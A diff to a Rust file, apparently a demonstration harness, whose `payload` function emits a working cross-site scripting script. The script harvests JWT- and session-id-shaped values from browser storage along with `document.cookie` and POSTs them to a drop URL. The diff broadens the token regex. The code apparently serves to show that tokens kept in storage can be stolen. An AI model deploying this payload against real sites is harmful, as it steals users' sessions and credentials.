@@ -80,7 +80,10 @@ fn checked(run: &str) -> Result<&str, ApiError> {
 }
 
 /// The attacker's script, as it would arrive in a comment: it reads every storage a script can
-/// read for token-shaped values, and `document.cookie`, and sends them to `drop_url`.
+/// read for credential-shaped values, and `document.cookie`, and sends them to `drop_url`. A
+/// credential is a JWT (`eyJ….….…`) or an opaque id (22 to 64 base64url characters, as a session
+/// id kept for `Authorization: Bearer` is): looking for JWTs alone, a session id in storage would
+/// show as "nothing stolen", which is the folklore, not the truth.
 fn payload(drop_url: &str) -> String {
     format!(
         r#"(function () {{
@@ -88,7 +91,7 @@ fn payload(drop_url: &str) -> String {
   [["localStorage", window.localStorage], ["sessionStorage", window.sessionStorage]].forEach(function (s) {{
     for (var i = 0; i < s[1].length; i++) {{
       var key = s[1].key(i), value = s[1].getItem(key) || "";
-      if (/^eyJ[\w-]*\.[\w-]*\.[\w-]*$/.test(value)) found.push({{ place: s[0] + "[" + key + "]", value: value }});
+      if (/^(eyJ[\w-]*\.[\w-]*\.[\w-]*|[\w-]{{22,64}})$/.test(value)) found.push({{ place: s[0] + "[" + key + "]", value: value }});
     }}
   }});
   fetch("{drop_url}", {{ method: "POST", mode: "no-cors", body: JSON.stringify({{ found: found, cookie: document.cookie }}) }});
